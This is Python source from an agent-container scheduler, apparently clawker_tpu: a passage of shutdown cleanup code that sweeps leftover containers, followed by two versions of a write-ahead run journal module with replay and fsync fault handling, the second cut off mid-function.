            # on the main thread could snapshot '' mid-create and leak)
            futs = [self._lane(loop.worker).submit(self._remove_one, loop)
                    for loop in self.loops]
            # containers abandoned on dead/recovered workers by failover
            # ride THEIR worker's lane (a dead worker's removal fails
            # fast or eats the bounded wait, never the healthy lanes').
            # The label sweep covers every worker any GENERATION of this
            # run touched -- final placements, failover-abandoned
            # workers, and (for a resumed run) the journaled fleet:
            # after a kill/resume cycle a worker may hold only an
            # earlier generation's leftovers (exited copies,
            # un-restored pool members) that no current loop points at
            # (chaos-found leak: a worker whose loops all migrated away
            # kept its exited containers).  Not the whole live fleet --
            # cleanup cost scales with the run, and a worker no
            # generation saw cannot hold this run's label.  Engine-less
            # stand-ins are excluded everywhere: a sweep on one would
            # die at require_engine before its guarded list call.
            journaled = (set(self._image.workers)
                         if self._image is not None else set())
            # every worker a launch/refill was ever SUBMITTED to joins
            # the journaled set: a remote create whose `created` event
            # died with its workerd (after the loop migrated away)
            # leaves a labeled container no final placement or
            # abandoned entry points at
            journaled |= self._placed_workers
            sweep_workers: dict[str, Worker] = {
                w.id: w for w in self.driver.workers()
                if w.engine is not None and w.id in journaled}
            for loop in self.loops:
                if loop.worker.engine is not None:
                    sweep_workers.setdefault(loop.worker.id, loop.worker)
                for worker, cid in loop.abandoned:
                    if worker.engine is not None:
                        sweep_workers.setdefault(worker.id, worker)
                    futs.append(self._lane(worker).submit(
                        self._remove_cid, worker, cid))
            # label-scoped sweep: a create whose response was lost AFTER
            # the daemon executed it (the case the engine client must
            # not blindly re-send) leaves a container in neither
            # container_id nor abandoned -- only listing by this run's
            # loop label catches such ghosts
            futs.extend(self._lane(w).submit(self._sweep_worker, w)
                        for w in sweep_workers.values())
            if futs:
                futures_wait(futs, timeout=HALT_DEADLINE_S)
        if self._owns_lanes:
            # a SHARED registry (loopd) outlives this run: the daemon
            # closes it at its own shutdown, and other runs' queued
            # work must not die with ours
            self.lanes.close_all()
        self.tracer.close_open("stopped")
        if self.flight is not None:
            self.flight.close()
        if self.journal is not None:
            self.journal.close()
        self.events.flush()
        self.events.close()

    def _remove_one(self, loop: AgentLoop) -> None:
        if not loop.container_id:
            return      # create never ran (failed, or aborted by stop())
        self._remove_cid(loop.worker, loop.container_id)

    def _remove_cid(self, worker: Worker, cid: str) -> None:
        try:
            worker.require_engine().remove_container(
                cid, force=True, volumes=True)
        except ClawkerError:
            pass

    def _sweep_worker(self, worker: Worker) -> None:
        """Remove every container carrying THIS run's loop label on the
        worker -- the backstop for ghosts no bookkeeping tracked."""
        engine = worker.require_engine()
        try:
            rows = engine.list_containers(all=True, filters={
                "label": [f"{consts.LABEL_LOOP}={self.loop_id}"]})
        except ClawkerError:
            return
        for row in rows:
            self._remove_cid(worker, row.get("Id", ""))
