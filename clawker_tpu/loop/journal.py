"""Durable run journal: the loop scheduler's write-ahead log.

The scheduler's whole fleet state -- placements, iteration counts, exit
histories -- used to live in one CLI process: a killed ``clawker loop``
(OOM, SIGKILL, host reboot, dropped SSH session) evaporated it while
the agent containers kept running on the workers.  The journal makes
scheduler death survivable: every state transition is appended as one
JSONL record to ``logs/runs/<run>.journal`` *before* the engine call it
describes, and ``clawker loop --resume <run>`` replays the file into a
:class:`RunImage` that the scheduler reconciles against what is
actually running on each worker (docs/loop-resume.md).

Durability model -- **fsync-batched write-ahead**:

- Every append is written + flushed immediately (the OS has it even if
  the CLI dies; only a host crash can lose an unsynced tail).
- Records that gate *idempotent rediscovery* (``placement`` before a
  create is submitted, ``created`` once the engine returned a container
  id) are appended ``durable=True``: the append fsyncs before
  returning, and -- group commit -- that one fsync also covers every
  batched record written before it by any thread.
- Bookkeeping records (``started``/``exited``/...) batch: they fsync
  every ``fsync_batch_n`` records or ``fsync_interval_s`` seconds,
  whichever comes first.  Losing such a tail is safe because the
  reconcile pass re-derives the same facts from engine container state.

The read side rides the shared crash-tolerant tail-reader
(:func:`~clawker_tpu.monitor.ledger.read_jsonl`): a writer killed
mid-line degrades to "one torn record skipped", identically to the
flight recorder.

A journal whose directory cannot be created degrades to a counting
no-op -- journaling must never fail the run it protects.
"""

from __future__ import annotations

import json
import os
import threading
import time
from dataclasses import dataclass, field
from pathlib import Path

from ..capacity import (
    REC_CAPACITY_POOL,
    REC_CAPACITY_QUEUE,
    REC_CAPACITY_SCALE,
    REC_CAPACITY_TOKENS,
)
from ..monitor.ledger import read_jsonl

RUNS_DIR = "runs"               # under Config.logs_dir

# record kinds (the `kind` field of every journal record)
REC_RUN = "run"                 # run header: spec + worker set
REC_PLACEMENT = "placement"     # agent placed on a worker (pre-create WAL)
REC_ADMIT_QUEUED = "admission_queued"  # launch entered the admission queue
#                                 (pre-submit WAL: --resume rebuilds the
#                                 pending queue in this order)
REC_CREATED = "created"         # engine returned a container id
REC_STARTED = "started"         # iteration N started executing
REC_EXITED = "exited"           # iteration N's exit accounted
REC_ORPHANED = "orphaned"       # worker died under the loop
REC_MIGRATED = "migrated"       # failover moved the loop src -> dst
REC_ADOPTED = "adopted"         # resume adopted a still-running container
REC_GHOST = "ghost"             # resume swept an unjournaled leftover
REC_LOOP_END = "loop_end"       # terminal loop status (done|failed|stopped)
REC_SHUTDOWN = "shutdown"       # clean scheduler drain (SIGINT/SIGTERM/stop)
REC_RESUME = "resume"           # a --resume generation picked the run up
# warm-pool membership (docs/loop-warmpool.md): journaled write-ahead so
# --resume adopts still-usable pool members back into the pool and
# sweeps the rest -- a pre-created container must never leak as an
# untracked ghost just because the scheduler died mid-fill
REC_POOL_ADD = "pool_add"       # refill admitted (pre-create WAL)
REC_POOL_READY = "pool_ready"   # pool member created; cid known
REC_POOL_ADOPT = "pool_adopt"   # member consumed by a placement (pre-
#                                 finalize WAL: `by` names the adopter)
REC_POOL_REMOVE = "pool_remove"  # member recycled/swept/drained
# workspace-seed / worktree provisioning (docs/loop-worktrees.md):
# journaled write-ahead so --resume re-attaches agent worktrees and
# re-serves cached seeds with zero duplicate branch creates, clones, or
# seed transfers after a mid-provision SIGKILL
REC_SEED_TAR = "seed_tar"       # seed tar built: digest + byte count
#                                 (pre-transfer WAL for the fan-out)
REC_SEED_SHIP = "seed_ship"     # seed shipped to a worker's seed store
#                                 (pre-send WAL: at most one per
#                                 (digest, worker) pair per generation)
REC_SEED_WORKTREE = "seed_worktree"  # agent worktree provisioned:
#                                 branch + path (pre-`worktree add` WAL)
# gitguard (clawker_tpu/gitguard, docs/git-policy.md): the git-protocol
# firewall for worktree swarms.  Rule installs are journaled
# write-ahead so a --resume (or post-SIGKILL cleanup) tears down
# exactly the run-scoped egress rules this run added -- never a user's
# standing rules; every proxy verdict lands as a decision record, the
# evidence stream the chaos ref-isolation-at-proxy invariant audits.
REC_GITGUARD_RULES = "gitguard_rules"      # run-scoped git egress rules
#                                 installed (pre-add WAL: rule keys)
REC_GITGUARD_DECISION = "gitguard_decision"  # one proxy verdict
#                                 (allow/deny/down_refused + ref/agent)
# elastic-capacity decisions (clawker_tpu/capacity,
# docs/elastic-capacity.md): pool targets, token caps, queue-mode
# flips, and fleet provision/drain -- journaled through the same WAL so
# --resume restores the controller's state and the chaos
# stranded-by-drain invariant can audit every drain against the
# placements live at that point in the record stream.  The kind
# constants live in the capacity package (rank 2) and are re-exported
# here for replay's convenience.


def journal_path(logs_dir: Path, run_id: str) -> Path:
    """Canonical journal path for one loop run."""
    return Path(logs_dir) / RUNS_DIR / f"{run_id}.journal"


class RunJournal:
    """Append-only JSONL write-ahead journal for one loop run.

    Thread-safe: lane threads, waiter threads, and the run thread all
    append.  ``seq`` totally orders records even when ``ts`` ties.
    """

    def __init__(self, path: Path, *, fsync_batch_n: int = 8,
                 fsync_interval_s: float = 0.25, clock=time.time):
        self.path = Path(path)
        self.fsync_batch_n = max(1, int(fsync_batch_n))
        self.fsync_interval_s = float(fsync_interval_s)
        self._clock = clock
        self._lock = threading.Lock()
        self._seq = 0
        self._pending = 0           # records flushed but not yet fsynced
        self._last_sync = 0.0
        self.dropped = 0
        self._fh = None
        try:
            self.path.parent.mkdir(parents=True, exist_ok=True)
            self._fh = open(self.path, "a", encoding="utf-8")
        except OSError:
            self._fh = None
        if self._fh is not None:
            # a resume generation REOPENS the dead run's journal: seq must
            # continue from the existing tail, not restart at 1 -- a
            # second resume would otherwise interleave generations when
            # ordering by seq
            for rec in read_jsonl(self.path):
                seq = rec.get("seq", 0)
                if isinstance(seq, (int, float)) and int(seq) > self._seq:
                    self._seq = int(seq)

    def append(self, kind: str, *, durable: bool = False, **fields) -> None:
        """Append one record; with ``durable`` the record (and every
        batched record before it) is fsynced before returning."""
        with self._lock:
            if self._fh is None:
                self.dropped += 1
                return
            self._seq += 1
            rec = {"kind": kind, "seq": self._seq, "ts": self._clock(),
                   **fields}
            try:
                self._fh.write(
                    json.dumps(rec, separators=(",", ":"), default=str) + "\n")
                self._fh.flush()
            except OSError:
                self.dropped += 1
                return
            self._pending += 1
            now = time.monotonic()
            if (durable or self._pending >= self.fsync_batch_n
                    or now - self._last_sync >= self.fsync_interval_s):
                self._fsync_locked(now)

    def sync(self) -> None:
        """Force the batched tail to disk (graceful-shutdown barrier)."""
        with self._lock:
            if self._fh is not None and self._pending:
                self._fsync_locked(time.monotonic())

    def _fsync_locked(self, now: float) -> None:
        try:
            os.fsync(self._fh.fileno())
        except OSError:
            self.dropped += self._pending
        self._pending = 0
        self._last_sync = now

    def close(self) -> None:
        with self._lock:
            fh, self._fh = self._fh, None
        if fh is not None:
            try:
                if self._pending:
                    os.fsync(fh.fileno())
                fh.close()
            except OSError:
                pass

    @staticmethod
    def read(path: Path) -> list[dict]:
        """Every parseable record, skipping a truncated tail (shared
        crash-tolerant reader -- monitor.ledger.read_jsonl)."""
        return read_jsonl(path)


# --------------------------------------------------------------------------
# replay: journal records -> the run image --resume reconciles from
# --------------------------------------------------------------------------

# statuses a resume picks back up ("stopped" is the clean-drain state --
# resuming after a graceful Ctrl-C is the whole point of journaling it)
RESUMABLE_STATUSES = ("pending", "running", "orphaned", "stopped")


@dataclass
class LoopImage:
    """One agent loop's journaled state, folded to the latest record."""

    agent: str
    worker: str = ""
    epoch: int = 0
    iteration: int = 0
    exit_codes: list[int] = field(default_factory=list)
    consecutive_failures: int = 0
    status: str = "pending"
    container_id: str = ""
    started: bool = False       # current iteration journaled as started
    migrations: int = 0
    abandoned: list[tuple[str, str]] = field(default_factory=list)

    @property
    def resumable(self) -> bool:
        return self.status in RESUMABLE_STATUSES


@dataclass
class PoolImage:
    """One warm-pool member's journaled state, folded to the latest
    record.  ``pending`` = admitted but never created (mid-refill
    crash); ``ready`` = created and adoptable; ``adopted`` /
    ``removed`` = consumed -- reconcile must not hand it out again."""

    agent: str                  # pool placeholder agent name
    worker: str = ""
    cid: str = ""
    state: str = "pending"      # pending | ready | adopted | removed
    adopted_by: str = ""


@dataclass
class RunImage:
    """A whole run's journaled state: what replay() hands the scheduler."""

    run_id: str = ""
    project: str = ""
    spec: dict = field(default_factory=dict)
    workers: list[str] = field(default_factory=list)
    loops: dict[str, LoopImage] = field(default_factory=dict)
    pool: dict[str, PoolImage] = field(default_factory=dict)
    clean_shutdown: bool = False
    generation: int = 0         # how many resumes already hit this run
    capacity: dict = field(default_factory=dict)
    #                             latest elastic-capacity controller
    #                             state: {pool_targets, token_caps,
    #                             queue_modes, drained} -- what a resume
    #                             hands CapacityController.restore()
    queued_order: list[str] = field(default_factory=list)
    #                             agents whose latest launch entered the
    #                             admission queue but never reached a
    #                             create/adopt/terminal record, in queue
    #                             order -- what --resume re-enqueues
    #                             FIRST so pending-queue order survives
    #                             a scheduler death
    seeds: dict[str, int] = field(default_factory=dict)
    #                             workspace seed digests built this run
    #                             (digest -> tar byte count): resume can
    #                             tell a re-build from a first build
    seeded: dict[str, list[str]] = field(default_factory=dict)
    #                             digest -> workers whose seed store
    #                             holds (or was mid-receiving) that
    #                             seed -- resume must not re-ship, just
    #                             re-verify (docs/loop-worktrees.md)
    worktrees: dict[str, dict] = field(default_factory=dict)
    #                             agent -> {path, branch, base}: every
    #                             worktree whose provision was journaled
    #                             write-ahead; resume RE-ATTACHES these
    #                             via the idempotent setup_worktree path
    #                             instead of creating duplicates
    gitguard_rules: list[str] = field(default_factory=list)
    #                             egress rule keys this run installed for
    #                             the gitguard lane (pre-add WAL): resume
    #                             re-arms teardown for exactly these keys
    gitguard_decisions: dict[str, int] = field(default_factory=dict)
    #                             verdict -> count folded from decision
    #                             records (status/summary surfaces)


def replay(records: list[dict]) -> RunImage:
    """Fold journal records (in FILE order) into a :class:`RunImage`.

    File order is chronological by construction -- the journal is
    append-only under one lock, across resume generations too -- so no
    re-sort happens here (sorting by ``seq`` would interleave a journal
    whose earlier generations were written by a pre-continuation-seq
    writer).  Tolerant by design: unknown kinds are skipped (a newer
    CLI's journal must still resume under an older one as far as it
    can), and every field read is defaulted -- a torn record that parsed
    as JSON but lost fields must not kill the replay.
    """
    img = RunImage()
    for rec in records:
        kind = rec.get("kind", "")
        if kind == REC_RUN:
            img.run_id = str(rec.get("run", ""))
            img.project = str(rec.get("project", ""))
            img.spec = dict(rec.get("spec") or {})
            img.workers = [str(w) for w in rec.get("workers") or []]
            continue
        if kind == REC_SHUTDOWN:
            img.clean_shutdown = True
            continue
        if kind == REC_RESUME:
            img.generation = int(rec.get("generation", img.generation + 1))
            continue
        if kind in (REC_CAPACITY_POOL, REC_CAPACITY_TOKENS,
                    REC_CAPACITY_QUEUE, REC_CAPACITY_SCALE):
            # capacity decisions fold latest-wins into their own table:
            # a resume restores the controller where it left off
            cap = img.capacity
            wid = str(rec.get("worker", ""))
            if kind == REC_CAPACITY_POOL and wid:
                cap.setdefault("pool_targets", {})[wid] = int(
                    rec.get("target", 0))
            elif kind == REC_CAPACITY_TOKENS and wid:
                cap.setdefault("token_caps", {})[wid] = int(
                    rec.get("cap", 0))
            elif kind == REC_CAPACITY_QUEUE and wid:
                cap.setdefault("queue_modes", {})[wid] = (
                    float(rec.get("retry_after_s", 0.0))
                    if str(rec.get("mode", "")) == "reject" else 0.0)
            elif kind == REC_CAPACITY_SCALE:
                if str(rec.get("action", "")) != "drain" or not wid:
                    continue
                phase = str(rec.get("phase", ""))
                pending = cap.setdefault("pending_drain", [])
                if phase in ("blocked", "intent"):
                    if wid not in pending:
                        pending.append(wid)
                elif phase in ("done", "failed"):
                    if wid in pending:
                        pending.remove(wid)
                    if phase == "done":
                        cap.setdefault("drained", []).append(wid)
            continue
        if kind == REC_SEED_TAR:
            digest = str(rec.get("digest", ""))
            if digest:
                img.seeds[digest] = int(rec.get("bytes", 0))
            continue
        if kind == REC_SEED_SHIP:
            digest = str(rec.get("digest", ""))
            wid = str(rec.get("worker", ""))
            if digest and wid:
                shipped = img.seeded.setdefault(digest, [])
                if wid not in shipped:
                    shipped.append(wid)
            continue
        if kind == REC_SEED_WORKTREE:
            # worktree provisioning is keyed by agent but must NOT
            # materialize a LoopImage -- provisioning precedes placement
            wa = str(rec.get("agent", ""))
            if wa:
                img.worktrees[wa] = {
                    "path": str(rec.get("path", "")),
                    "branch": str(rec.get("branch", "")),
                    "base": str(rec.get("base", "")),
                }
            continue
        if kind == REC_GITGUARD_RULES:
            for key in rec.get("keys") or []:
                if str(key) not in img.gitguard_rules:
                    img.gitguard_rules.append(str(key))
            continue
        if kind == REC_GITGUARD_DECISION:
            verdict = str(rec.get("verdict", "")) or "unknown"
            img.gitguard_decisions[verdict] = (
                img.gitguard_decisions.get(verdict, 0) + 1)
            continue
        if kind in (REC_POOL_ADD, REC_POOL_READY, REC_POOL_ADOPT,
                    REC_POOL_REMOVE):
            # pool members fold into their own table -- their placeholder
            # agent names must never materialize as loops
            pa = str(rec.get("agent", ""))
            if not pa:
                continue
            member = img.pool.setdefault(pa, PoolImage(agent=pa))
            member.worker = str(rec.get("worker", member.worker))
            if kind == REC_POOL_READY:
                member.cid = str(rec.get("cid", member.cid))
                member.state = "ready"
            elif kind == REC_POOL_ADOPT:
                member.cid = str(rec.get("cid", member.cid))
                member.state = "adopted"
                member.adopted_by = str(rec.get("by", ""))
            elif kind == REC_POOL_REMOVE:
                member.state = "removed"
            continue
        agent = str(rec.get("agent", ""))
        if not agent:
            continue
        loop = img.loops.setdefault(agent, LoopImage(agent=agent))
        if kind == REC_ADMIT_QUEUED:
            # latest queue entry wins its position (a re-placement
            # re-enqueues at the back, exactly like the live queue)
            if agent in img.queued_order:
                img.queued_order.remove(agent)
            img.queued_order.append(agent)
            continue
        if kind in (REC_CREATED, REC_STARTED, REC_EXITED, REC_ADOPTED,
                    REC_ORPHANED, REC_LOOP_END):
            # the queued launch either dispatched (create/adopt) or the
            # placement it belonged to died: it is no longer pending
            if agent in img.queued_order:
                img.queued_order.remove(agent)
        if kind == REC_PLACEMENT:
            loop.worker = str(rec.get("worker", loop.worker))
            loop.epoch = int(rec.get("epoch", loop.epoch))
            loop.status = "pending"
            loop.container_id = ""
            loop.started = False
        elif kind == REC_CREATED:
            loop.container_id = str(rec.get("cid", ""))
        elif kind == REC_STARTED:
            loop.iteration = int(rec.get("iteration", loop.iteration))
            loop.started = True
            loop.status = "running"
        elif kind == REC_EXITED:
            code = rec.get("code")
            if code is not None:
                loop.exit_codes.append(int(code))
                loop.consecutive_failures = (
                    0 if int(code) == 0 else loop.consecutive_failures + 1)
            loop.iteration = int(rec.get("iteration", loop.iteration)) + 1
            loop.started = False
            loop.status = "running"
        elif kind == REC_ADOPTED:
            loop.container_id = str(rec.get("cid", loop.container_id))
            loop.iteration = int(rec.get("iteration", loop.iteration))
            loop.started = True
            loop.status = "running"
        elif kind == REC_ORPHANED:
            cid = str(rec.get("cid", ""))
            wid = str(rec.get("worker", loop.worker))
            if cid:
                loop.abandoned.append((wid, cid))
            loop.container_id = ""
            loop.started = False
            loop.status = "orphaned"
        elif kind == REC_MIGRATED:
            loop.migrations += 1
        elif kind == REC_LOOP_END:
            loop.status = str(rec.get("status", "stopped"))
            if loop.status == "stopped":
                # the drain deliberately halted any in-flight iteration:
                # billing its docker-stop kill code as a real exit would
                # burn budget and failure ceiling for work the scheduler
                # itself interrupted -- resume re-runs the iteration
                loop.started = False
    return img
