"""Durable run journal: the loop scheduler's write-ahead log.

The scheduler's whole fleet state -- placements, iteration counts, exit
histories -- used to live in one CLI process: a killed ``clawker loop``
(OOM, SIGKILL, host reboot, dropped SSH session) evaporated it while
the agent containers kept running on the workers.  The journal makes
scheduler death survivable: every state transition is appended as one
JSONL record to ``logs/runs/<run>.journal`` *before* the engine call it
describes, and ``clawker loop --resume <run>`` replays the file into a
:class:`RunImage` that the scheduler reconciles against what is
actually running on each worker (docs/loop-resume.md).

Durability model -- **fsync-batched write-ahead**:

- Every append is written + flushed immediately (the OS has it even if
  the CLI dies; only a host crash can lose an unsynced tail).
- Records that gate *idempotent rediscovery* (``placement`` before a
  create is submitted, ``created`` once the engine returned a container
  id) are appended ``durable=True``: the append fsyncs before
  returning, and -- group commit -- that one fsync also covers every
  batched record written before it by any thread.
- Bookkeeping records (``started``/``exited``/...) batch: they fsync
  every ``fsync_batch_n`` records or ``fsync_interval_s`` seconds,
  whichever comes first.  Losing such a tail is safe because the
  reconcile pass re-derives the same facts from engine container state.

The read side rides the shared crash-tolerant tail-reader
(:func:`~clawker_tpu.monitor.ledger.read_jsonl`): a writer killed
mid-line degrades to "one torn record skipped", identically to the
flight recorder.  Every record is checksummed by the shared writer
(``monitor.ledger.encode_record``); the durable replay fold reads the
*verified prefix* and flags mid-file damage instead of folding past it
(docs/durability.md).

Fail-loud durability contract (docs/durability.md): every append
returns an :class:`AppendReceipt`; a write or fsync failure POISONS
the handle -- fsync is never retried on the same fd (a failed fsync
may have dropped the dirty pages and reports the error exactly once:
retrying would false-succeed).  Recovery reopens a fresh fd and
re-appends the unsynced records held in a small in-memory ring.  Every
fault surfaces through the ``on_fault`` callback, the
``storage_journal_*`` metrics, and the receipt -- a journal can
degrade, but never silently.
"""

from __future__ import annotations

import os
import threading
import time
from dataclasses import dataclass, field
from pathlib import Path

from .. import telemetry
from ..capacity import (
    REC_CAPACITY_POOL,
    REC_CAPACITY_QUEUE,
    REC_CAPACITY_SCALE,
    REC_CAPACITY_TOKENS,
)
from ..errors import ClawkerError
from ..monitor.ledger import (
    IntegrityReport,
    encode_record,
    flight_path,
    read_jsonl,
    read_verified_prefix,
)

# storage-fault telemetry (docs/durability.md, docs/telemetry.md): the
# no-silent-drop invariant audits these -- any dropped or poisoned
# write MUST move a counter
_FAULTS = telemetry.counter(
    "storage_journal_faults_total",
    "journal storage faults (failed open/write/fsync/close)",
    labels=("op",))
_DROPPED = telemetry.counter(
    "storage_journal_dropped_total",
    "journal records dropped: never written durably, lost to the run")
_RECOVERIES = telemetry.counter(
    "storage_journal_recoveries_total",
    "poisoned-handle recoveries (reopen + re-append of the unsynced ring)")

RUNS_DIR = "runs"               # under Config.logs_dir

# record kinds (the `kind` field of every journal record)
REC_RUN = "run"                 # run header: spec + worker set
REC_PLACEMENT = "placement"     # agent placed on a worker (pre-create WAL)
REC_ADMIT_QUEUED = "admission_queued"  # launch entered the admission queue
#                                 (pre-submit WAL: --resume rebuilds the
#                                 pending queue in this order)
REC_CREATED = "created"         # engine returned a container id
REC_STARTED = "started"         # iteration N started executing
REC_EXITED = "exited"           # iteration N's exit accounted
REC_ORPHANED = "orphaned"       # worker died under the loop
REC_MIGRATED = "migrated"       # failover moved the loop src -> dst
REC_ADOPTED = "adopted"         # resume adopted a still-running container
REC_GHOST = "ghost"             # resume swept an unjournaled leftover
REC_LOOP_END = "loop_end"       # terminal loop status (done|failed|stopped)
REC_SHUTDOWN = "shutdown"       # clean scheduler drain (SIGINT/SIGTERM/stop)
REC_RESUME = "resume"           # a --resume generation picked the run up
REC_STORAGE_FAULT = "storage_fault"  # durable-append fault: the run is in
#                                 degraded-durability state from here on
#                                 (docs/durability.md) -- best-effort
#                                 record; the fault also surfaces via
#                                 metric + storage.fault event even when
#                                 the journal itself cannot take this
# warm-pool membership (docs/loop-warmpool.md): journaled write-ahead so
# --resume adopts still-usable pool members back into the pool and
# sweeps the rest -- a pre-created container must never leak as an
# untracked ghost just because the scheduler died mid-fill
REC_POOL_ADD = "pool_add"       # refill admitted (pre-create WAL)
REC_POOL_READY = "pool_ready"   # pool member created; cid known
REC_POOL_ADOPT = "pool_adopt"   # member consumed by a placement (pre-
#                                 finalize WAL: `by` names the adopter)
REC_POOL_REMOVE = "pool_remove"  # member recycled/swept/drained
# workspace-seed / worktree provisioning (docs/loop-worktrees.md):
# journaled write-ahead so --resume re-attaches agent worktrees and
# re-serves cached seeds with zero duplicate branch creates, clones, or
# seed transfers after a mid-provision SIGKILL
REC_SEED_TAR = "seed_tar"       # seed tar built: digest + byte count
#                                 (pre-transfer WAL for the fan-out)
REC_SEED_SHIP = "seed_ship"     # seed shipped to a worker's seed store
#                                 (pre-send WAL: at most one per
#                                 (digest, worker) pair per generation)
REC_SEED_WORKTREE = "seed_worktree"  # agent worktree provisioned:
#                                 branch + path (pre-`worktree add` WAL)
# gitguard (clawker_tpu/gitguard, docs/git-policy.md): the git-protocol
# firewall for worktree swarms.  Rule installs are journaled
# write-ahead so a --resume (or post-SIGKILL cleanup) tears down
# exactly the run-scoped egress rules this run added -- never a user's
# standing rules; every proxy verdict lands as a decision record, the
# evidence stream the chaos ref-isolation-at-proxy invariant audits.
REC_GITGUARD_RULES = "gitguard_rules"      # run-scoped git egress rules
#                                 installed (pre-add WAL: rule keys)
REC_GITGUARD_DECISION = "gitguard_decision"  # one proxy verdict
#                                 (allow/deny/down_refused + ref/agent)
# elastic-capacity decisions (clawker_tpu/capacity,
# docs/elastic-capacity.md): pool targets, token caps, queue-mode
# flips, and fleet provision/drain -- journaled through the same WAL so
# --resume restores the controller's state and the chaos
# stranded-by-drain invariant can audit every drain against the
# placements live at that point in the record stream.  The kind
# constants live in the capacity package (rank 2) and are re-exported
# here for replay's convenience.


def journal_path(logs_dir: Path, run_id: str) -> Path:
    """Canonical journal path for one loop run."""
    return Path(logs_dir) / RUNS_DIR / f"{run_id}.journal"


class JournalUnhealthy(ClawkerError):
    """A durable journal append could not be made durable (failed
    write or fsync, handle poisoned, recovery failed).  Raised by
    callers that run ``loop.journal.on_fault: fail`` -- the WAL
    contract is load-bearing there, so the run fail-stops rather than
    running on without its crash evidence."""


@dataclass(frozen=True)
class AppendReceipt:
    """What one :meth:`RunJournal.append` actually achieved.

    ``ok``: the record is written + flushed on a healthy fd (the OS has
    it; only a host crash can lose it).  ``synced``: the record is
    covered by a successful fsync -- for ``durable=True`` appends this
    is THE contract bit; a durable receipt with ``synced=False`` means
    the write-ahead promise is broken and the caller must react
    (docs/durability.md degrade matrix)."""

    ok: bool
    synced: bool
    seq: int = 0
    error: str = ""

    def require_durable(self) -> "AppendReceipt":
        """Raise :class:`JournalUnhealthy` unless the record is synced
        (the ``on_fault: fail`` consumption path)."""
        if not self.synced:
            raise JournalUnhealthy(
                f"durable journal append failed: {self.error or 'unsynced'}")
        return self


# a receipt for appends against a disabled/absent journal: the run
# carries no WAL, so there is no durability contract to break
NO_JOURNAL_RECEIPT = AppendReceipt(ok=True, synced=True, seq=0)


def receipt_synced(rcpt) -> bool:
    """Durability verdict of a ``journal(...)`` hook result.

    Subsystems that take an injected journal callable (warm pool,
    capacity controller) consume the result through this: a real
    :class:`AppendReceipt` answers with its ``synced`` bit; ``None``
    (the no-journal default hook) means there is no WAL and therefore
    no durability contract to break."""
    return rcpt is None or bool(getattr(rcpt, "synced", True))


@dataclass(frozen=True)
class JournalFault:
    """One storage fault, as handed to the ``on_fault`` callback (and
    folded into ``storage.fault`` bus events by the scheduler)."""

    op: str                     # open | write | fsync | close
    error: str
    recovered: bool             # reopen + re-append made the data safe
    dropped: int                # records lost to this fault


_RING_MAX = 256                 # unsynced-record ring bound (fsync every
#                                 8 records / 0.25s keeps it tiny; the cap
#                                 only guards a pathological config)
_REOPEN_BACKOFF_S = 1.0         # unhealthy-journal reopen retry cadence


class RunJournal:
    """Append-only JSONL write-ahead journal for one loop run.

    Thread-safe: lane threads, waiter threads, and the run thread all
    append.  ``seq`` totally orders records even when ``ts`` ties.

    Fault semantics (docs/durability.md): every append returns an
    :class:`AppendReceipt`.  A failed write or fsync poisons the
    current fd -- fsync is NEVER retried on the same handle -- and
    recovery reopens the path, newline-terminates any torn partial
    line, re-appends the unsynced in-memory ring, and fsyncs the fresh
    fd.  If recovery fails the journal turns unhealthy: appends drop
    (loudly: counted, receipted, ``on_fault``-notified) until a later
    append's lazy reopen succeeds -- e.g. after the disk-pressure GC
    freed space.  ``on_fault`` is invoked outside the journal lock.
    """

    def __init__(self, path: Path, *, fsync_batch_n: int = 8,
                 fsync_interval_s: float = 0.25, clock=time.time,
                 on_fault=None):
        self.path = Path(path)
        self.fsync_batch_n = max(1, int(fsync_batch_n))
        self.fsync_interval_s = float(fsync_interval_s)
        self._clock = clock
        self.on_fault = on_fault
        self._lock = threading.Lock()
        self._seq = 0
        self._seq_scanned = False
        self._pending = 0           # records flushed but not yet fsynced
        self._last_sync = 0.0
        self._ring: list[tuple[int, str]] = []  # unsynced (seq, line)
        self._reopen_at = 0.0       # monotonic gate for lazy reopen
        self._last_error = ""
        self.dropped = 0
        self.faults = 0
        self.recoveries = 0
        self.poisoned = 0           # fds abandoned after a fsync fault
        self._closed = False
        self._closed_bad = False    # closed while (or by) failing
        self._fh = None
        if not self._open_locked():
            self._note_fault(JournalFault(
                "open", self._last_error, False, 0))

    # ------------------------------------------------------------ plumbing

    @property
    def healthy(self) -> bool:
        """Open: a live fd.  Closed: whether the journal ENDED with its
        contract intact -- a cleanly-closed journal is not "unhealthy"
        just because the run finished (the post-run ``--json`` summary
        reads this after close)."""
        if self._closed:
            return not self._closed_bad
        return self._fh is not None

    @property
    def last_error(self) -> str:
        return self._last_error

    def _note_fault(self, fault: JournalFault) -> None:
        """Count + surface one fault.  Called OUTSIDE self._lock (the
        callback may take scheduler locks / emit events)."""
        self.faults += 1
        _FAULTS.labels(fault.op).inc()
        if self.on_fault is not None:
            try:
                self.on_fault(fault)
            except Exception:   # noqa: BLE001 -- fault surfacing must
                pass            # never compound the fault

    @staticmethod
    def _fsync_fh(fh) -> None:
        """fsync through the handle when it knows how (the chaos
        FaultFS shim intercepts here), else through its fileno."""
        fsync = getattr(fh, "fsync", None)
        if callable(fsync):
            fsync()
        else:
            os.fsync(fh.fileno())

    def _open_locked(self) -> bool:
        """(Re)open the journal file; continue seq from the on-disk
        tail exactly once (resume generations REOPEN the dead run's
        journal: restarting seq would interleave generations)."""
        try:
            self.path.parent.mkdir(parents=True, exist_ok=True)
            self._fh = open(self.path, "a", encoding="utf-8")
        except OSError as e:
            self._fh = None
            self._last_error = str(e) or type(e).__name__
            self._reopen_at = time.monotonic() + _REOPEN_BACKOFF_S
            return False
        if not self._seq_scanned:
            self._seq_scanned = True
            for rec in read_jsonl(self.path):
                seq = rec.get("seq", 0)
                if isinstance(seq, (int, float)) and int(seq) > self._seq:
                    self._seq = int(seq)
        return True

    def _write_locked(self, line: str) -> str:
        """Write + flush one line on the current fd; '' or the error."""
        try:
            self._fh.write(line + "\n")
            self._fh.flush()
            return ""
        except OSError as e:
            return str(e) or type(e).__name__

    def _recover_locked(self) -> bool:
        """Abandon the poisoned fd, rebuild on a fresh one: reopen,
        newline-terminate any torn partial line, re-append every
        unsynced ring record, fsync the NEW fd.  Never retries fsync
        on the old handle -- a failed fsync reports once and may have
        dropped the dirty pages; retrying would false-succeed."""
        old, self._fh = self._fh, None
        self.poisoned += 1
        if old is not None:
            try:
                old.close()
            except OSError:
                pass
        try:
            fh = open(self.path, "a", encoding="utf-8")
        except OSError as e:
            self._last_error = str(e) or type(e).__name__
